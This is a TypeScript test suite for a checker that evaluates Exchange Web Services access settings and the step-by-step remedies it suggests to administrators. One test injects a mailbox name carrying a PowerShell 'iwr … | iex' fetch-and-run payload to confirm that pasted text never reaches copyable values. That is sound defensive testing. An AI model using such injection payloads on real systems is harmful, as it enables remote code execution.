import { describe, expect, test } from 'vitest';
import { kindOf } from '../../src/checks/kinds';
import { isInstead, type ExchangeSettings } from '../../src/checks/inputs';
import { productOf } from '../../src/checks/product';
import type { Change, Remedy } from '../../src/checks/remedy';
import type { Gap, Verdict } from '../../src/checks/verdict';
import { readExchangeOutput } from '../../src/import/exchange-output';
import { labels } from '../../src/microsoft/labels';
import { APP, DIRECTORY, firm, NOW, OBJECT, registration, STRANGER } from './judging';

const PASTED = new Date(NOW);

const judge = (exchange: unknown, now = NOW): Verdict | Gap => {
  const verdict = kindOf('ews-allowed').judge({
    params: { endOfEws: '2027-04-01' },
    inputs: { clientId: APP, exchange },
    subject: { appId: APP },
    facts: { application: registration(), organization: [firm('muster.onmicrosoft.com')] },
    reasons: {},
    account: { tenantId: DIRECTORY },
    product: productOf({ product: 'BüroWARE/WEBWARE' }),
    now: new Date(now),
  } as never);
  if ('blockedBy' in verdict) throw new Error('blocked');
  return verdict;
};

const remedyOf = (verdict: Verdict | Gap): Remedy | undefined => ('remedy' in verdict ? verdict.remedy : undefined);

/** The organisation as it really is, which an output may show or not. */
interface Organisation {
  readonly enabled: boolean | null;
  readonly ids: readonly string[];
  readonly off: readonly string[];
}

/** The emulated administrator: does one change, and what the commands of step 11 then print. */
const done = (firmNow: Organisation, change: Change): Organisation => {
  if (change.change === 'append to EwsAllowedAppIDs') return { ...firmNow, ids: [...firmNow.ids, change.appId] };
  if (change.change === 'enable EWS') return { ...firmNow, enabled: true };
  if (change.change === 'enable EWS of mailbox') return { ...firmNow, off: [] };
  if (change.change === 'paste Exchange output') return firmNow;
  throw new Error(`step 11 wants ${change.change}`);
};
const printed = ({ enabled, ids, off }: Organisation) =>
  [
    'PS> Get-OrganizationConfig -RetrieveEwsOperationAccessPolicy | Format-List Name,EwsEnabled,EwsAllowedAppIDs',
    '',
    'Name             : muster.onmicrosoft.com',
    `EwsEnabled       : ${enabled === null ? '' : enabled ? 'True' : 'False'}`,
    `EwsAllowedAppIDs : ${ids.join(',')}`,
    '',
    ...off.flatMap((one) => [
      `PS> Get-CASMailbox ${one} | fl Name,EwsEnabled`,
      '',
      `Name : ${one}`,
      'EwsEnabled : False',
      '',
    ]),
  ].join('\n');

const complete: ExchangeSettings = {
  ewsEnabled: true,
  allowedAppIds: [APP],
  organisation: { name: 'muster.onmicrosoft.com' },
  pastedAt: NOW,
};

/** Everything step 11 can be open for, with the organisation it was read from. */
const cases: readonly (readonly [when: string, pasted: Partial<ExchangeSettings>, really: Partial<Organisation>])[] = [
  ['switched off', { ewsEnabled: false }, {}],
  ['switched off, with an empty list', { ewsEnabled: false, allowedAppIds: [] }, {}],
  ['not set', { ewsEnabled: null }, {}],
  ['not set, and not listed', { ewsEnabled: null, allowedAppIds: [STRANGER] }, {}],
  ['an empty list', { allowedAppIds: [] }, {}],
  ['other programs only', { allowedAppIds: [STRANGER] }, {}],
  ['the object id', { allowedAppIds: [OBJECT] }, {}],
  ['a broken entry', { allowedAppIds: [], odd: [{ as: 'short', text: APP.slice(1) }] }, {}],
  ['asked for without the switch', { allowedAppIds: [], list: 'unswitched' }, { ids: [APP] }],
  ['asked for without the switch, and really empty', { allowedAppIds: [], list: 'unswitched' }, { ids: [] }],
  ['a mailbox that is off', { mailboxesOff: ['Lager'] }, {}],
  ['a mailbox that is off, and not set', { ewsEnabled: null, allowedAppIds: [], mailboxesOff: ['Lager'] }, {}],
];

describe('whoever does what step 11 advises', () => {
  test.each(cases)('ends green: %s', (_, pasted, really) => {
    const shown = { ...complete, ...pasted };
    let organisation: Organisation = {
      enabled: shown.ewsEnabled ?? null,
      ids: shown.allowedAppIds ?? [],
      off: shown.mailboxesOff ?? [],
      ...really,
    };
    let verdict = judge(shown);
    for (let round = 0; round < 2 && !('gap' in verdict) && verdict.status !== 'pass'; round += 1) {
      const remedy = remedyOf(verdict);
      expect(remedy?.changes.at(-1)).toEqual({ change: 'paste Exchange output' });
      organisation = (remedy?.changes ?? []).reduce(done, organisation);
      const exchange = readExchangeOutput(printed(organisation), PASTED);
      expect(isInstead(exchange)).toBe(false);
      verdict = judge(exchange);
    }
    expect(verdict).toMatchObject({ status: 'pass' });
  });

  const APPEND = { change: 'append to EwsAllowedAppIDs', appId: APP };
  const ENABLE = { change: 'enable EWS' };
  const MAILBOX = { change: 'enable EWS of mailbox' };
  const PASTE = { change: 'paste Exchange output' };

  test.each<[when: string, pasted: Partial<ExchangeSettings>, changes: readonly object[]]>([
    ['switched off', { ewsEnabled: false }, [ENABLE, PASTE]],
    ['switched off, and not listed', { ewsEnabled: false, allowedAppIds: [] }, [APPEND, ENABLE, PASTE]],
    ['not set', { ewsEnabled: null }, [ENABLE, PASTE]],
    ['not set, and not listed', { ewsEnabled: null, allowedAppIds: [] }, [APPEND, ENABLE, PASTE]],
    ['not set, and a mailbox off', { ewsEnabled: null, mailboxesOff: ['Lager'] }, [ENABLE, MAILBOX, PASTE]],
    ['not listed', { allowedAppIds: [] }, [APPEND, PASTE]],
    ['a mailbox off', { mailboxesOff: ['Lager'] }, [MAILBOX, PASTE]],
  ])('changes what is open, all of it and nothing else, and pastes once: %s', (_, pasted, changes) => {
    expect(remedyOf(judge({ ...complete, ...pasted }))?.changes).toEqual(changes);
  });

  test('has nobody removed from the list', () => {
    const changes = cases.flatMap(([, pasted]) => remedyOf(judge({ ...complete, ...pasted }))?.changes ?? []);
    expect(
      changes.map(({ change }) => change).filter((one) => one.startsWith('remove') || one.startsWith('stop')),
    ).toEqual([]);
  });

  test('can only ask when EWS is over', () => {
    const verdict = judge(complete, '2027-04-01T00:00:00Z');
    expect(remedyOf(verdict)).toMatchObject({ changes: [] });
    expect(JSON.stringify(remedyOf(verdict)?.clicks)).toContain('Fragen Sie den Hersteller der BüroWARE/WEBWARE');
  });

  test('is told where the organisation is not named', () => {
    const { organisation: _, ...nameless } = complete;
    expect(remedyOf(judge(nameless))?.changes).toEqual([{ change: 'paste Exchange output' }]);
  });
});

test('each red and each note has its remedy; only the second gate is the IT’s own matter', () => {
  for (const [when, pasted] of cases) expect(remedyOf(judge({ ...complete, ...pasted })), when).toBeDefined();
  expect(remedyOf(judge({ ...complete, applicationAccessPolicy: 'EnforceAllowList' }))).toBeUndefined();
});

test('a name that was pasted reaches no value that is copied', () => {
  const verdict = judge({ ...complete, mailboxesOff: ["x'; iwr https://example.org | iex; '"] });
  const values = remedyOf(verdict)
    ?.clicks.flat()
    .filter((piece) => typeof piece === 'object');
  expect(JSON.stringify(values)).not.toContain('iwr');
});

test('every label is one of the dictionary', () => {
  const pieces = cases.flatMap(([, pasted]) => remedyOf(judge({ ...complete, ...pasted }))?.clicks.flat() ?? []);
  const named = pieces.flatMap((piece) => (typeof piece === 'object' && 'label' in piece ? [piece.label] : []));
  expect(named.length).toBeGreaterThan(0);
  expect(named.filter((name) => !labels.has(name))).toEqual([]);
});

test('says each remedy in full sentences', async () => {
  const said = cases.map(([when, pasted]) => {
    const remedy = remedyOf(judge({ ...complete, ...pasted }));
    const clicks = remedy?.clicks.map((click, index) => {
      const words = click.map((piece) =>
        typeof piece === 'string' ? piece : 'label' in piece ? `„${piece.label}“` : `[${piece.value}]`,
      );
      return `${String(index + 1)}. ${words.join('')}`;
    });
    return [`# ${when}`, ...(clicks ?? []), remedy?.delay ?? ''].join('\n').trimEnd();
  });
  await expect(`${said.join('\n\n')}\n`).toMatchFileSnapshot('./ews-remedies.txt');
});
